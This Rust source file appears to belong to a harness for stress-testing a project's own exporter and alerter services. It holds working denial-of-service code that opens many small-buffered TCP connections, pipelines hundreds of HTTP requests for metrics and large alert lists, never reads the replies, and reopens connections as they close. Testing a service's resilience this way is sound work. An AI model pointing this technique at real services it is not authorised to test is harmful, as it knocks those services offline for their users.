//! Connections that request answers repeatedly without reading them, and are reopened when they are
//! closed.

use std::fmt::Write as _;
use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};

use rustix::net::connect;
use rustix::net::sockopt::set_socket_recv_buffer_size;

use super::large;
use crate::attack::{Attack, raise_open_files, tcp};

pub(crate) const EXPORTER: Attack =
    Attack::new("unread-exporter", |target| hold(target.exporter, 600, &["/metrics", "/v1/runs"]));
pub(crate) const ALERTER: Attack = Attack::new("unread-alerter", |target| {
    hold(target.alerter, 2_000, &["/metrics", "/api/v1/incidents", "/api/v1/runs", "/"])
});
/// The list of as many alerts as are kept, which is an answer of 28 MiB.
pub(crate) const LISTS: Attack = Attack::new("unread-lists", |target| {
    large::alerts(target)?;
    hold(target.alerter, 64, &["/api/v2/alerts", "/api/v2/alerts/groups"])
});

/// The number of requests of one connection, and the size of its receive buffer.
const REQUESTS: usize = 200;
const RECEIVE_BUFFER: usize = 2048;

fn hold(addr: SocketAddr, connections: usize, paths: &[&str]) -> anyhow::Result<()> {
    raise_open_files()?;
    let mut asked = String::new();
    for path in paths.iter().cycle().take(REQUESTS) {
        write!(asked, "GET {path} HTTP/1.1\r\nhost: {addr}\r\n\r\n")?;
    }
    let mut held = Vec::new();
    loop {
        for _ in 0..connections {
            held.push(begin(addr, &asked).ok());
        }
        held.drain(..held.len().saturating_sub(connections));
    }
}

fn begin(addr: SocketAddr, asked: &str) -> anyhow::Result<TcpStream> {
    let socket = tcp()?;
    // This must be set before the connect, which negotiates the largest window.
    set_socket_recv_buffer_size(&socket, RECEIVE_BUFFER)?;
    connect(&socket, &addr)?;
    let mut stream = TcpStream::from(socket);
    stream.set_nonblocking(true)?;
    let _ = stream.write(asked.as_bytes());
    Ok(stream)
}
